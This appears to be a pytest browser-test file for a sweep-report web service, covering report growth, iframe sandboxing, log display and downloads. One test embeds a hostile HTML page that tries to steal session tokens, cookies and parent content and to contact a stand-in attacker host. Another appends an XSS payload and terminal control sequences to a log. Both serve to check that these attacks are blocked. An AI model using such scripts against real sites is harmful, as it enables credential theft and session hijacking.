"""The report in the service's page: how it grows, what a hostile one reaches, and the log beside it."""

import contextlib
import json
import socket
import time
from pathlib import Path
from typing import Any

import httpx
import pytest

from espalier.services.clusters.local import LocalCluster
from espalier.services.database.store import Store
from espalier.services.http.app import build
from espalier.services.reading.reports import Reports
from espalier.services.reading.trials import Sweeps
from espalier.services.settings import Settings
from espalier.sweeps.report.document import Document
from espalier.sweeps.report.figure import Figure
from espalier.sweeps.report.page import page_of
from tests.chromium import Browser, Tab, pictures_of
from tests.services.conftest import until
from tests.services.holding import hold
from tests.services.http.asking import Token as Make
from tests.services.http.asking import hand_in, reaches, state
from tests.services.http.browsing import COLOURS, DRAWN, come_in, opened, secret_of
from tests.services.serving import served
from tests.sweeps.report.made import material_of

# --- the report grows -----------------------------------------------------------------------------------------------


GROWING = """
return {
  count: document.getElementById("count").textContent,
  filter: document.getElementById("filter").value,
  sorted: document.querySelector("#table th[aria-sort]")?.textContent,
  stories: [...document.querySelectorAll("tr.story")].map((row) => row.previousElementSibling.cells[0].textContent),
  focus: document.activeElement.textContent,
  figures: [...document.querySelectorAll("main > section[id^=figure]")].map((each) => each.id),
  canvases: document.querySelectorAll(".chart canvas").length,
  buttons: document.querySelectorAll(".links button").length,
  status: document.querySelector(".status").textContent,
  opened: document.querySelector("details").open,
};
"""
READING = """
const field = document.getElementById("filter");
field.value = "complete";
field.dispatchEvent(new Event("input"));
document.querySelectorAll("#table th button")[1].click();
document.querySelectorAll("#table th button")[1].click();
const button = document.querySelectorAll("#table tbody tr td button")[2];
button.click();
button.focus();
document.querySelector("details").open = true;
return button.textContent;
"""


@pytest.mark.slow
def test_a_report_grows_in_its_place(
    tab: Tab, client: httpx.Client, token: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    """From no trial to many: the reader's filter, order, open story and focus stay, and figures come and go."""
    sizes = iter([0, 30, 60])
    last: dict[str, Any] = {"size": 0}

    def draw(*_: object) -> str:
        last["size"] = next(sizes, 60)
        return page_of(Document.of(material_of(last["size"], state="running")))

    monkeypatch.setattr(Reports, "_drawn", draw)
    monkeypatch.setattr(Reports, "_tag", lambda *_: str(time.monotonic()))
    monkeypatch.setattr(Sweeps, "begun", lambda *_: True)
    monkeypatch.setattr("espalier.services.reading.reports.REST_S", 0.0)
    monkeypatch.setattr("espalier.services.reading.reports.SHARE", 1e9)
    who, address = token("ada"), str(client.base_url).rstrip("/")
    sweep = hand_in(client, who, "long")
    reaches(client, who, sweep, "running")
    come_in(tab, address, who, f"#/sweeps/{sweep}")
    tab.until("document.querySelector('#report')?.dataset.drawn === '1'", "the first")
    tab.until(DRAWN, "the first's figures", in_frame=True)
    empty = tab.run(GROWING, in_frame=True)
    assert empty["count"] == "0 of 0" and empty["canvases"] == 0
    tab.until("document.documentElement.dataset.grown === '1'", "the second", in_frame=True)
    assert tab.run(GROWING, in_frame=True)["count"] == "30 of 30"
    story = tab.run(READING, in_frame=True)
    height = tab.run("return document.querySelector('#report iframe').offsetHeight;")
    assert height > 3000  # no scrolling within the frame
    tab.run("scrollTo(0, 900);")
    tab.until("Number(document.documentElement.dataset.grown) >= 2", "the third", in_frame=True)
    grown = tab.run(GROWING, in_frame=True)
    complete = sum(t.state == "complete" for t in material_of(60).trials)
    assert grown["count"] == f"{complete} of 60" and grown["filter"] == "complete" and grown["sorted"] == "valid_loss"
    assert grown["stories"] == [story] and grown["focus"] == story and grown["opened"]
    assert "60 trials" in grown["status"] and grown["canvases"] == len(grown["figures"]) > 5
    assert min(tab.run(COLOURS, in_frame=True)) > 2
    figures = Document.of(material_of(60, state="running")).figures
    names = [("image", figure.alt) for figure in figures if isinstance(figure, Figure)]
    assert [each for each in pictures_of(tab, in_frame=True) if not each[1].startswith("Its curve")] == names
    assert abs(tab.run("return scrollY;") - 900) < 60  # what was read stays where it was
    assert tab.run("return document.querySelectorAll('#report iframe').length;") == 1


HOSTILE = """<!doctype html><html><body><pre id="stolen"></pre><script>
const said = [];
const attempt = async (name, act) => {
  try {
    said.push(`${name}: got ${await act()}`);
  } catch (error) {
    said.push(`${name}: ${error.name}`);
  }
};
const loaded = (thing) => new Promise((ok, no) => {
  thing.onload = thing.onmessage = ok;
  thing.onerror = () => no(new TypeError());
});
const picture = new Image();
(async () => {
  await attempt("token", () => sessionStorage.getItem("espalier.token"));
  await attempt("local", () => localStorage.length);
  await attempt("cookie", () => document.cookie);
  await attempt("parent", () => parent.document.body.innerHTML);
  await attempt("parent's storage", () => parent.sessionStorage.length);
  await attempt("top", () => { top.location.href = "EVIL/"; });
  await attempt("fetch", () => fetch("/v1/me").then((answer) => answer.text()));
  await attempt("other", () => fetch("EVIL/"));
  await attempt("worker", () => loaded(new Worker("data:text/javascript,postMessage(1)")));
  await attempt("open", () => { if (!open("EVIL/")) throw new TypeError(); });
  await attempt("picture", () => { picture.src = "EVIL/x"; return loaded(picture); });
  navigator.sendBeacon("/v1/me", "x");
  const lies = [{ height: 1e12 }, { height: -5 }, { height: NaN }, { height: "<b>" }, { ready: "x" }, null, 7, "text"];
  for (const data of [...lies, { token: 1 }, { report: "<b>x</b>" }]) parent.postMessage(data, "*");
  document.getElementById("stolen").textContent = JSON.stringify(said);
})();
</script></body></html>"""


@pytest.mark.slow
def test_a_hostile_report_reaches_nothing_of_an_admin(
    browser: Browser, client: httpx.Client, token: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As an owner's process may draw it, where jobs run as users of their own."""
    heard = socket.create_server(("127.0.0.1", 0))
    heard.settimeout(0.1)
    evil = f"http://127.0.0.1:{heard.getsockname()[1]}"
    monkeypatch.setattr(Reports, "_drawn", lambda *_: HOSTILE.replace("EVIL", evil))
    monkeypatch.setattr(Sweeps, "begun", lambda *_: True)
    address, admin = str(client.base_url).rstrip("/"), token("root", "admin")
    sweep = hand_in(client, token("ada"), "long")
    tab = browser.tab()
    try:
        come_in(tab, address, admin, f"#/sweeps/{sweep}")
        tab.until("document.querySelector('#report')?.dataset.drawn", "the report")
        tab.until("document.getElementById('stolen')?.textContent", "its attempts", in_frame=True)
        said = json.loads(tab.run("return document.getElementById('stolen').textContent;", in_frame=True))
        assert len(said) == 11
        assert [line for line in said if ": got" in line] == [], said
        assert secret_of(admin) not in tab.run("return document.documentElement.outerHTML;", in_frame=True)
        tab.browser.listen(0.5)
        assert tab.run("return location.pathname;") == "/"
        assert tab.run("return document.querySelector('#report iframe').offsetHeight;") <= 200_000
        tab.run(f"location.href = '{evil}/' + document.title;", in_frame=True)  # by itself it goes nowhere, too
        tab.browser.listen(1.0)
        with contextlib.suppress(TimeoutError):  # Chromium may connect in advance, and then says nothing
            line, _ = heard.accept()
            with line:
                line.settimeout(0.5)
                assert line.recv(100) == b""
        assert state(client, admin, sweep) == "running"
    finally:
        tab.close()
        heard.close()


@pytest.mark.slow
def test_a_report_that_is_opened_by_itself_has_no_origin_either(
    browser: Browser, store: Store, cluster: LocalCluster, settings: Settings, small_sweep: Any
) -> None:
    """Without tokens it can be: then its address alone would be enough to stop a sweep."""
    sweep = hold(store, settings.home, small_sweep)
    with served(build(settings, True, cluster)) as address, opened(browser, address) as tab:
        tab.go(f"{address}/v1/sweeps/{sweep}/report")
        tab.until(DRAWN, "its figures")
        assert tab.run("return self.origin;") == "null"
        assert tab.run("return fetch('/v1/me').then(() => 'in', () => 'out');") == "out"
        tab.console.clear()


# --- the log --------------------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_a_long_log_with_colours_and_control_characters_is_read_from_its_end(
    tab: Tab, client: httpx.Client, token: Make, settings: Settings
) -> None:
    who, address = token("ada"), str(client.base_url).rstrip("/")
    sweep = hand_in(client, who, "long")
    reaches(client, who, sweep, "running")
    log = settings.home / "jobs" / f"{sweep}-0" / "log"
    until(lambda: log.exists() and "begun" in log.read_text(), "its first lines")
    nasty = "\x1b[31mred\x1b[0m \x1b]0;title\x07 a\x00b\x08 \u202eright to left\n"
    nasty += "10 %\r50 %\r100 %\r\n<img src=x onerror=alert(1)>\n"
    with open(log, "a", encoding="utf-8", newline="") as file:
        file.writelines(f"line {n} {'x' * 90}\n" for n in range(500_000))
        file.write(nasty)
    assert log.stat().st_size > 50e6
    come_in(tab, address, who, f"#/sweeps/{sweep}")
    tab.until("document.documentElement.dataset.state === 'running'", "its state")
    tab.press("#log summary")
    tab.until("document.querySelector('.log')?.textContent.includes('onerror')", "the end of the log")
    text = tab.run("return document.querySelector('.log').textContent;")
    assert text.splitlines()[-3:] == ["red  ab right to left", "100 %", "<img src=x onerror=alert(1)>"]
    assert text.startswith("line ") and len(text) < 200_000 and "line 499999 " in text
    assert "MB before this is left out" in tab.text()
    with open(log, "a") as file:
        file.write("x" * 3_000_000)  # no end of a line
        file.write("\nand one more\n")
    tab.until("document.querySelector('.log').textContent.endsWith('and one more\\n')", "what was added")
    assert tab.run("return document.querySelector('.log').textContent.length;") < 800_000
    read = [request["url"] for request in tab.asked if "/logs" in request["url"]]
    assert len(read) == 1 and "last=" in read[0]
    tab.press("#log summary")
    tab.press("#log summary")
    tab.until("document.querySelector('.log').textContent.endsWith('and one more\\n')", "the same again")
    assert tab.run("return document.querySelector('.log').textContent.split('and one more').length;") == 2


@pytest.mark.slow
def test_each_attempt_of_a_sweep_has_a_log_of_its_own(tab: Tab, client: httpx.Client, token: Make) -> None:
    who, address = token("ada"), str(client.base_url).rstrip("/")
    sweep = hand_in(client, who, "long")
    come_in(tab, address, who, f"#/sweeps/{sweep}")
    tab.until("document.querySelector('#stop')?.checkVisibility()", "the button")
    tab.press("#log summary")
    ours = f"this is {sweep}\\nbegun\\n"
    tab.until(f"document.querySelector('.log').textContent === '{ours}'", "its log")
    tab.press("#stop")
    tab.press("#confirm button")
    tab.until("document.documentElement.dataset.state === 'stopped'", "that it has stopped")
    tab.press("#resume")
    tab.until("document.documentElement.dataset.state === 'running'", "that it goes on")
    tab.until(f"document.querySelector('.log').textContent === '{ours}'", "the log of the second attempt")
    asked = [request["headers"].get("Last-Event-ID") for request in tab.asked if "/logs" in request["url"]]
    assert asked == [None, None]


@pytest.mark.slow
def test_the_report_its_data_and_its_pictures_can_be_saved(
    tab: Tab, client: httpx.Client, token: Make, store: Store, settings: Settings, small_sweep: Any, tmp_path: Path
) -> None:
    who, address = token("ada"), str(client.base_url).rstrip("/")
    sweep, folder = hold(store, settings.home, small_sweep), tmp_path / "saved"
    tab.browser.call("Browser.setDownloadBehavior", behavior="allow", downloadPath=str(folder))
    come_in(tab, address, who, f"#/sweeps/{sweep}")
    tab.until("document.querySelector('#report')?.dataset.drawn", "the report")
    tab.until(DRAWN, "its figures", in_frame=True)
    tab.press("#save")
    tab.press(".links button", in_frame=True)
    tab.press(".links button:last-child", in_frame=True)
    tab.press("#csv", in_frame=True)
    names = {f"report-{sweep}.html", "valley-trials.csv", "valley.png", "trials.csv"}
    until(lambda: folder.exists() and names <= {file.name for file in folder.iterdir()}, f"{names} in {folder}")
    assert (folder / "valley.png").read_bytes().startswith(b"\x89PNG")
    assert f"sweep best {sweep} --server {address}" in (folder / f"report-{sweep}.html").read_text()
    assert len((folder / "trials.csv").read_text().splitlines()) == 10
